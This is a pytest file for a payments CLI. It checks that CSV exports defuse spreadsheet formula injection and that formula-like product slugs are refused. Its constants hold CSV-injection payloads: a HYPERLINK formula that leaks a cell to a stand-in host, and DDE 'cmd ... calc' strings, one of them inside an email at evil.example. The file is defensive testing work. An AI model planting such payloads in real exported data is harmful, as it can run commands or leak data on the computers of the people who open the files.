"""Finance opens shub-pay's CSVs in a spreadsheet: a creator's email, name or product title that
looks like a formula is shown as text there, never run (OWASP CSV injection), while amounts stay
numbers `SUM()` can add; and the catalog refuses a slug that looks like a formula."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from shub_pay.csvfile import FORMULA_STARTS, write_csv
from tests.conftest import Cli
from tests.reports.conftest import Shop

HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"
EMAIL = "@sum(1+1)*cmd|' /c calc'!a0@evil.example"  # stored lower-cased, as every email
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def _hostile_catalog(catalog_data: Any, tmp_path: Path) -> Path:
    data = json.loads(json.dumps(catalog_data))
    ada = next(u for u in data["users"] if u["id"] == "c_ada")
    old_email = ada["email"]
    ada["email"], ada["name"] = EMAIL, CALC
    for creator in data["creators"]:
        if creator["user"] == old_email:
            creator["user"] = EMAIL
    for product in data["products"]:
        if product["creator"] == old_email:
            product["creator"] = EMAIL
        if product["id"] == "p_aurora":
            product["title"] = HYPERLINK
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), cell


def test_formula_looking_names_reach_every_csv_as_text(
    shop: Shop, cli: Cli, catalog_data: Any, tmp_path: Path
) -> None:
    imported = cli("catalog", "import", str(_hostile_catalog(catalog_data, tmp_path)))
    assert imported.exit_code == 0, imported.stderr
    sale = shop.sell(datetime(2026, 11, 3, 12, tzinfo=UTC))
    shop.refund(sale, 300, datetime(2026, 11, 4, tzinfo=UTC))

    outputs = {
        "catalog": cli("catalog", "list", "-f", "csv"),
        "creators": cli("creators", "list", "-f", "csv"),
        "orders": cli("orders", "list", "-f", "csv"),
        "by creator": cli("report", "revenue", "--group-by", "creator", "-f", "csv"),
        "by product": cli("report", "revenue", "--group-by", "product", "-f", "csv"),
    }
    for name, result in outputs.items():
        assert result.exit_code == 0, (name, result.stderr)
        _assert_no_formula(result.stdout)
    assert "'" + HYPERLINK in _cells(outputs["catalog"].stdout)
    assert "'" + EMAIL in _cells(outputs["creators"].stdout)
    assert "'" + EMAIL in _cells(outputs["by creator"].stdout)
    # A negative amount (the platform paid the refund and kept only its fee) stays a number.
    by_product = next(csv.DictReader(io.StringIO(outputs["by product"].stdout)))
    assert by_product["platform_net"] == "-1.70"

    report_file = tmp_path / "revenue.csv"
    written = cli("report", "revenue", "--group-by", "creator", "--output", str(report_file))
    assert written.exit_code == 0, written.stderr
    _assert_no_formula(report_file.read_text(encoding="utf-8"))
    rows = list(csv.DictReader(io.StringIO(outputs["orders"].stdout)))
    assert [Decimal(r["amount_minor"]) for r in rows] == [Decimal(1299)]


def test_a_slug_that_looks_like_a_formula_is_refused_and_nothing_is_written(
    cli: Cli, catalog_data: Any, tmp_path: Path
) -> None:
    for slug in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "two words", "a,b"):
        data = json.loads(json.dumps(catalog_data))
        data["products"][0]["slug"] = slug
        path = tmp_path / "bad.json"
        path.write_text(json.dumps(data), encoding="utf-8")
        result = cli("catalog", "import", str(path))
        assert result.exit_code == 2, slug
        assert "products[0].slug" in result.stderr and "is not a slug" in result.stderr
    assert cli.json("catalog", "list") == []


@given(
    minor=st.integers(min_value=-(10**12), max_value=10**12),
    text=st.text(min_size=1, max_size=20),
    start=st.sampled_from(FORMULA_STARTS),
)
def test_amounts_stay_numbers_and_any_text_starting_a_formula_is_neutralised(
    minor: int, text: str, start: str
) -> None:
    amount = f"{Decimal(minor) / 100:.2f}"
    out = io.StringIO()
    write_csv(out, ["amount", "text", "word"], [[amount, start + text, "plain"]])
    _header, (cell_amount, cell_text, cell_word) = list(csv.reader(io.StringIO(out.getvalue())))
    assert Decimal(cell_amount) == Decimal(minor) / 100
    written = (start + text).replace("\r\n", "\n").replace("\r", "\n")
    assert cell_text == "'" + written or NUMBER.fullmatch(start + text)
    assert cell_word == "plain"
